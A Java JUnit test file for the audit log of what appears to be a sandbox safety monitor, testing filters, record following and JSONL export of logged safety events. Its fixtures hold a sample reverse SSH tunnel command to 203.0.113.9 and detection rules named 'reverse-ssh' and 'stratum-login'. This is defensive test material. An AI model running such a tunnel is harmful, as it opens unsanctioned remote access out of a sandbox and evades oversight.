package dev.ale.monitor.audit;

import static org.assertj.core.api.Assertions.assertThat;
import java.util.ArrayList;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.ale.core.event.Category;
import dev.ale.core.event.SafetyEvent;
import dev.ale.core.event.SafetyEvent.Action;
import dev.ale.core.event.SafetyEvent.Severity;
import java.io.StringWriter;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalInt;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Reading the log back: each filter, following new records, and the JSON Lines export. */
class AuditQueryTest {

    @TempDir
    Path dir;

    AuditLog log;

    /** When records 1 to 4 are written; records 5 and 6 are written a second later. */
    static final Instant T0 = Instant.parse("2026-03-01T10:00:00.123456789Z");

    /** Instant between record 4 and record 5. */
    final Instant between = T0.plusMillis(500);

    final SetClock clock = new SetClock(T0);

    @BeforeEach
    void records() {
        log = AuditLog.open(dir.resolve("audit.db"), clock);
        log.append("sandbox", "sb-a", Optional.empty(), OptionalInt.empty(), Optional.empty(), Optional.empty(),
                Map.of("event", "created"));                                                                  // 1
        log.append(event("reverse-ssh", Category.TUNNEL, "sb-a", "ep-1", 3));                                  // 2
        log.append("step", "sb-a", Optional.of("ep-1"), OptionalInt.of(4), Optional.empty(), Optional.empty(),
                Map.of("tool", "shell", "argv", List.of("ls", "-l")));                                         // 3
        log.append(event("stratum-login", Category.MINING, "sb-b", "ep-2", 1));                                // 4
        clock.advance(Duration.ofSeconds(1));
        log.append(event("reverse-ssh", Category.TUNNEL, "sb-b", "ep-2", 2));                                  // 5
        log.append("step", "sb-b", Optional.of("ep-2"), OptionalInt.of(3), Optional.empty(), Optional.empty(),
                Map.of("tool", "python"));                                                                     // 6
    }

    @AfterEach
    void close() {
        log.close();
    }

    private static SafetyEvent event(String rule, Category category, String sandbox, String episode, int step) {
        return new SafetyEvent(rule, category, Severity.HIGH, Action.KILL, sandbox, Optional.of(episode),
                OptionalInt.of(step), "coder", Optional.of("sha256:" + "ab".repeat(32)), Instant.parse("2026-03-01T10:00:00Z"), "ssh -R to 203.0.113.9:22",
                Map.of("argv", "ssh -R 9000:localhost:22 203.0.113.9", "dest", "203.0.113.9:22"));
    }

    private List<Long> seqs(AuditQuery q) {
        return log.query(q).stream().map(AuditRecord::seq).toList();
    }

    @Test
    void noFilterReturnsEverythingInSeqOrder() {
        assertThat(seqs(AuditQuery.all())).containsExactly(1L, 2L, 3L, 4L, 5L, 6L);
    }

    @Test
    void eachFilterSelectsItsRecords() {
        assertThat(seqs(AuditQuery.all().withSandbox("sb-a"))).containsExactly(1L, 2L, 3L);
        assertThat(seqs(AuditQuery.all().withEpisode("ep-2"))).containsExactly(4L, 5L, 6L);
        assertThat(seqs(AuditQuery.all().withRule("reverse-ssh"))).containsExactly(2L, 5L);
        assertThat(seqs(AuditQuery.all().withCategory(Category.MINING))).containsExactly(4L);
        assertThat(seqs(AuditQuery.all().withCategory("tunnel"))).containsExactly(2L, 5L);
        assertThat(seqs(AuditQuery.all().withKind("step"))).containsExactly(3L, 6L);
        assertThat(seqs(AuditQuery.all().withSince(between))).containsExactly(5L, 6L);
        assertThat(seqs(AuditQuery.all().withLimit(2))).containsExactly(1L, 2L);
    }

    @Test
    void sinceIncludesARecordWrittenAtThatVeryInstantToTheNanosecond() {
        Instant fifth = T0.plusSeconds(1);

        assertThat(seqs(AuditQuery.all().withSince(fifth))).containsExactly(5L, 6L);
        assertThat(seqs(AuditQuery.all().withSince(fifth.plusNanos(1)))).isEmpty();
        assertThat(seqs(AuditQuery.all().withSince(T0))).containsExactly(1L, 2L, 3L, 4L, 5L, 6L);
    }

    @Test
    void eachRecordIsStampedWithTheLogsClockNotTheEventsTime() {
        List<AuditRecord> all = log.query(AuditQuery.all());

        assertThat(all).extracting(AuditRecord::time).containsExactly(T0, T0, T0, T0, T0.plusSeconds(1), T0.plusSeconds(1));
        // the event's own time (10:00:00Z) stays in the payload, apart from when the log wrote it down
        assertThat(all.get(1).payloadMap()).containsEntry("time", "2026-03-01T10:00:00Z");
    }

    @Test
    void filtersCombine() {
        assertThat(seqs(AuditQuery.all().withSandbox("sb-b").withRule("reverse-ssh"))).containsExactly(5L);
        assertThat(seqs(AuditQuery.all().withKind(AuditRecord.SAFETY_EVENT).withLimit(2))).containsExactly(2L, 4L);
        assertThat(seqs(AuditQuery.all().withSandbox("sb-a").withSince(between))).isEmpty();
    }

    @Test
    void aSafetyEventIsStoredWithItsRuleCategoryAndEvidence() {
        AuditRecord r = log.query(AuditQuery.all().withRule("stratum-login")).getFirst();

        assertThat(r.kind()).isEqualTo("safety-event");
        assertThat(r.sandbox()).isEqualTo("sb-b");
        assertThat(r.episode()).contains("ep-2");
        assertThat(r.step()).hasValue(1);
        assertThat(r.category()).contains("mining");
        assertThat(r.payloadMap()).containsEntry("severity", "high").containsEntry("action", "kill")
                .containsEntry("passport", "coder").containsEntry("rule", "stratum-login").containsEntry("time", "2026-03-01T10:00:00Z")
                .containsEntry("evidence", Map.of("argv", "ssh -R 9000:localhost:22 203.0.113.9", "dest", "203.0.113.9:22"));
    }

    @Test
    void afterReturnsOnlyNewerRecordsUpToMax() {
        assertThat(log.after(2, 3)).extracting(AuditRecord::seq).containsExactly(3L, 4L, 5L);
        assertThat(log.after(6, 10)).isEmpty();

        log.append("step", "sb-b", Optional.empty(), OptionalInt.empty(), Optional.empty(), Optional.empty(), Map.of());

        assertThat(log.after(6, 10)).extracting(AuditRecord::seq).containsExactly(7L);
    }

    @Test
    void queriedRecordsEqualWhatAppendReturned() {
        AuditRecord appended = log.append("step", "sb-c", Optional.of("ep-9"), OptionalInt.of(0), Optional.of("r"),
                Optional.of("probe"), Map.of("nested", Map.of("z", 1, "a", List.of(true, "x"))));

        assertThat(log.query(AuditQuery.all().withSandbox("sb-c"))).containsExactly(appended);
        assertThat(appended.payload()).isEqualTo("{\"nested\":{\"a\":[true,\"x\"],\"z\":1}}");
    }

    @Test
    void jsonlExportHasOneObjectPerRecordWithEveryColumnAndThePayloadAsAnObject() throws Exception {
        StringWriter out = new StringWriter();

        log.exportJsonl(AuditQuery.all().withSandbox("sb-a"), out);

        List<AuditRecord> records = log.query(AuditQuery.all().withSandbox("sb-a"));
        String[] lines = out.toString().split("\n");
        assertThat(out.toString()).endsWith("\n");
        assertThat(lines).hasSize(3);
        ObjectMapper json = new ObjectMapper();
        for (int i = 0; i < lines.length; i++) {
            JsonNode line = json.readTree(lines[i]);
            AuditRecord r = records.get(i);
            List<String> names = iterable(line.fieldNames());
            assertThat(names).containsExactly("seq", "time", "kind", "sandbox", "episode", "step", "rule", "category",
                    "payload", "prev_hash", "hash");
            assertThat(line.get("seq").asLong()).isEqualTo(r.seq());
            assertThat(Instant.parse(line.get("time").asText())).isEqualTo(r.time());
            assertThat(line.get("kind").asText()).isEqualTo(r.kind());
            assertThat(line.get("sandbox").asText()).isEqualTo("sb-a");
            assertThat(line.get("payload").isObject()).as("payload is an object").isTrue();
            assertThat(json.writeValueAsString(line.get("payload"))).isEqualTo(r.payload());
            assertThat(line.get("prev_hash").asText()).isEqualTo(r.prevHash());
            assertThat(line.get("hash").asText()).isEqualTo(r.hash());
        }
        JsonNode first = json.readTree(lines[0]);
        assertThat(first.get("episode").isNull()).isTrue();
        assertThat(first.get("step").isNull()).isTrue();
        assertThat(first.get("payload").get("event").asText()).isEqualTo("created");
        JsonNode second = json.readTree(lines[1]);
        assertThat(second.get("episode").asText()).isEqualTo("ep-1");
        assertThat(second.get("step").asInt()).isEqualTo(3);
        assertThat(second.get("rule").asText()).isEqualTo("reverse-ssh");
        assertThat(second.get("category").asText()).isEqualTo("tunnel");
        assertThat(second.get("payload").get("evidence").get("dest").asText()).isEqualTo("203.0.113.9:22");
        assertThat(json.readTree(lines[2]).get("payload").get("argv").get(1).asText()).isEqualTo("-l");
    }

    /** A clock that stands still until the test moves it, so records get the times the test chose. */
    static final class SetClock extends Clock {
        private volatile Instant now;

        SetClock(Instant start) {
            now = start;
        }

        void advance(Duration by) {
            now = now.plus(by);
        }

        @Override
        public Instant instant() {
            return now;
        }

        @Override
        public ZoneId getZone() {
            return ZoneOffset.UTC;
        }

        @Override
        public Clock withZone(ZoneId zone) {
            throw new UnsupportedOperationException("the audit log reads only instants");
        }
    }

    private static List<String> iterable(Iterator<String> names) {
        List<String> list = new ArrayList<>();
        names.forEachRemaining(list::add);
        return list;
    }
}
